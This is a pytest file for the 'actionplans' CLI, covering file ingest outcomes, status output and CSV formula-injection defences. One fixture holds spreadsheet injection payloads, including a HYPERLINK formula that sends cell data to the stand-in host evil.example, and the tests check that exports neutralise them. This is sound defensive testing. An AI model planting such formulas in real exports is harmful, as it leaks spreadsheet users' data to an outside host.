"""Every file accounted for, and output that is safe and scriptable, through the real
`actionplans` command."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from sqlalchemy import text

from models.db import make_engine
from pipeline.tabular import neutralise
from tests.cli_run import actionplans, command_env
from tests.conftest import RAW
from tests.views_dataset import build_history

# --- every file found gets one line ------------------------------------------------------------


def test_every_file_in_a_folder_gets_one_outcome_line(tmp_path: Path) -> None:
    folder = tmp_path / "downloads"
    (folder / "sub").mkdir(parents=True)
    shutil.copy(RAW / "somerset-2013-11.pdf", folder)
    (folder / "photo.jpg").write_bytes(bytes.fromhex("ffd8ffe000104a464946") + b"\0" * 512)
    (folder / "notes.txt").write_text("call the council")
    (folder / "sub" / "README").write_text("no suffix at all")
    (folder / ".hidden.pdf").write_text("an editor's lock file")
    (folder / ".cache").mkdir()
    (folder / ".cache" / "x.pdf").write_text("hidden folder")
    db = f"sqlite:///{folder / 'actionplans.db'}"
    log = folder / "actionplans.log"  # the tool's own outputs inside the folder it reads
    for run in range(2):
        result = actionplans("ingest", str(folder), "--db", db, "--jobs", "1", log=log)
        assert result.returncode == 0, result.stdout + result.stderr
        lines = result.stdout.splitlines()
        skipped = sorted(line for line in lines if line.startswith("skipped"))
        assert skipped == [
            "skipped    README: not a format actionplans reads (suffix (none)) [unsupported_type]",
            "skipped    notes.txt: not a format actionplans reads (suffix .txt) [unsupported_type]",
            "skipped    photo.jpg: not a format actionplans reads (suffix .jpg) [unsupported_type]",
        ]
        first = "loaded     somerset-2013-11.pdf:" if run == 0 else "unchanged  somerset-2013-11.pdf"
        assert sum(line.startswith(first) for line in lines) == 1
        assert len(lines) == 5, lines  # four files, the totals; nothing for hidden files, db or log
        loaded, unchanged = (1, 0) if run == 0 else (0, 1)
        assert lines[-1] == f"4 files: {loaded} loaded, {unchanged} unchanged, 3 skipped, 0 failed"


def test_a_file_named_on_the_command_line_is_read_whatever_its_suffix(tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("call the council")
    renamed = tmp_path / "plan.download"
    shutil.copy(RAW / "somerset-2013-11.pdf", renamed)
    result = actionplans("ingest", str(notes), str(renamed), "--db", f"sqlite:///{tmp_path / 'a.db'}",
                         log=tmp_path / "x.log")
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    assert "failed     notes.txt: not a format actionplans reads (suffix .txt) [unsupported_type]" in lines
    assert any(line.startswith("loaded     plan.download: Somerset") for line in lines)


# --- CSV injection -----------------------------------------------------------------------------

HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Recruit independent officers")',
           "progress": "+1+2", "lead": "@SUM(A1:A9)", "theme": "-2+3", "outcome": "\tnote",
           "evidence": "\rnote"}


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    """The hand-made dataset, with Beta's line B5 written by someone hostile."""
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    engine = make_engine(url)
    build_history(engine)
    with engine.begin() as conn:
        sets = ", ".join(f"{k} = :{k}" for k in HOSTILE)
        conn.execute(text(f"UPDATE actions SET {sets} WHERE ref = 'B5'"), HOSTILE)
        conn.execute(text("UPDATE documents SET authority = '=Beta' WHERE authority = 'Beta'"))
        conn.execute(text("UPDATE actions SET progress = '+1+2' WHERE ref = '1.2'"))  # a plan's history
    engine.dispose()
    return url


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=1", "'=1"),
])
def test_formula_cells_are_neutralised(value: str, shown: str) -> None:
    assert neutralise(value) == shown


@pytest.mark.parametrize("value", ["Audit plans", "1.2", "2012-05-31", " =1", "", "a=b", 3, -1.5, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def csv_rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output, newline="")))


def csv_output(*args: str) -> str:
    """The command's CSV exactly as written (a carriage return in a cell stays one)."""
    result = actionplans(*args, text=False)
    assert result.returncode == 0, result.stderr
    return result.stdout.decode("utf-8")


def b5(rows: list[dict[str, str]]) -> dict[str, str]:
    return next(r for r in rows if r["ref"] == "B5")


def test_export_csv_neutralises_and_raw_csv_does_not(hostile_db: str) -> None:
    safe = csv_output("export", "--format", "csv", "--db", hostile_db)
    raw = csv_output("export", "--format", "csv", "--raw-csv", "--db", hostile_db)
    row, raw_row = b5(csv_rows(safe)), b5(csv_rows(raw))
    for key, value in HOSTILE.items():
        assert row[key] == "'" + value
        assert raw_row[key] == value
    assert row["authority"] == "'=Beta" and row["due_date"] == "2012-12-31"


def test_export_json_keeps_every_value_verbatim(hostile_db: str) -> None:
    result = actionplans("export", "--db", hostile_db)
    row = next(r for r in map(json.loads, result.stdout.splitlines()) if r["ref"] == "B5")
    assert {k: row[k] for k in HOSTILE} == HOSTILE


@pytest.mark.parametrize("args", [["query", "search", "independent"],
                                  ["query", "overdue", "--authority", "=beta"],
                                  ["query", "due", "--from", "2012-12-01", "--to", "2012-12-31"]],
                         ids=" ".join)
def test_query_csv_neutralises(hostile_db: str, args: list[str]) -> None:
    row = b5(csv_rows(actionplans(*args, "--format", "csv", "--db", hostile_db).stdout))
    assert row["action"] == "'" + HOSTILE["action"] and row["authority"] == "'=Beta"
    raw = b5(csv_rows(actionplans(*args, "--format", "csv", "--raw-csv", "--db", hostile_db).stdout))
    assert raw["action"] == HOSTILE["action"]
    rows = json.loads(actionplans(*args, "--format", "json", "--db", hostile_db).stdout)
    assert b5(rows)["action"] == HOSTILE["action"]


def test_compare_and_history_csv_neutralise(hostile_db: str) -> None:
    compare = csv_rows(actionplans("compare", "--format", "csv", "--db", hostile_db).stdout)
    assert [r["authority"] for r in compare] == ["'=Beta", "Alpha"]
    history = csv_rows(actionplans("history", "--format", "csv", "--db", hostile_db).stdout)
    assert {r["progress"] for r in history if r["ref"] == "1.2"} == {"'+1+2"}


# --- status and ingest for scripts -------------------------------------------------------------

@pytest.fixture(scope="module")
def mixed_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A folder with a plan, an HTML page saved as .pdf and a note; the database it went into."""
    folder = tmp_path_factory.mktemp("batch")
    shutil.copy(RAW / "somerset-2013-11.pdf", folder)
    (folder / "saved-page.pdf").write_text("<html><body>Not found</body></html>")
    (folder / "notes.txt").write_text("call the council")
    return folder, f"sqlite:///{folder.parent / 'mixed.db'}"


def test_ingest_json_is_one_summary(mixed_batch: tuple[Path, str]) -> None:
    folder, db = mixed_batch
    result = actionplans("ingest", str(folder), "--json", "--jobs", "1", "--db", db,
                         log=folder.parent / "x.log")
    assert result.returncode == 1
    summary = json.loads(result.stdout)  # the whole of stdout is the one JSON document
    assert summary["totals"] == {"files": 3, "loaded": 1, "unchanged": 0, "failed": 1, "skipped": 1}
    files = {f["document"]: f for f in summary["files"]}
    plan = files["somerset-2013-11.pdf"]
    assert (plan["outcome"], plan["authority"], plan["lines"]) == ("loaded", "Somerset", 20)
    assert sum(plan["statuses"].values()) == 20 and plan["reason"] is None
    assert isinstance(plan["warnings"], list)
    bad = files["saved-page.pdf"]
    assert (bad["outcome"], bad["reason"], bad["lines"]) == ("failed", "not_a_document", None)
    assert "saved-page.pdf" in bad["message"]
    assert (files["notes.txt"]["outcome"], files["notes.txt"]["reason"]) == ("skipped",
                                                                             "unsupported_type")


def test_status_in_three_formats(mixed_batch: tuple[Path, str]) -> None:
    folder, db = mixed_batch
    actionplans("ingest", str(folder), "-q", "--jobs", "1", "--db", db, log=folder.parent / "x.log")
    table = actionplans("status", "--db", db)
    assert table.returncode == 0
    assert table.stdout.splitlines()[:2] == ["1 documents loaded",
                                             "  somerset-2013-11.pdf: Somerset, report 2013-11-30, 20 lines"]
    rows = json.loads(actionplans("status", "--format", "json", "--db", db).stdout)
    assert [(r["document"], r["outcome"], r["lines"], r["reason"]) for r in rows] == [
        ("somerset-2013-11.pdf", "loaded", 20, None),
        ("saved-page.pdf", "failed", None, "not_a_document")]
    as_csv = actionplans("status", "--format", "csv", "--db", db).stdout
    assert as_csv.splitlines()[0] == "document,outcome,authority,report_date,lines,warnings,reason,message"
    assert [r["outcome"] for r in csv_rows(as_csv)] == ["loaded", "failed"]


# --- terminal tables ---------------------------------------------------------------------------

@pytest.mark.parametrize("columns", ["90", "120", "200"])
def test_tables_keep_the_document_name_whole(hostile_db: str, columns: str) -> None:
    result = actionplans("query", "search", "recruit", "--db", hostile_db,
                         env=command_env(COLUMNS=columns))
    lines = result.stdout.splitlines()
    assert lines[0].split()[0] == "rank"
    assert any("alpha-2012-06.pdf" in line for line in lines[2:])
    assert any("beta-2013-03.pdf" in line for line in lines[2:])
    if columns != "200":
        assert all(len(line) <= int(columns) for line in lines)
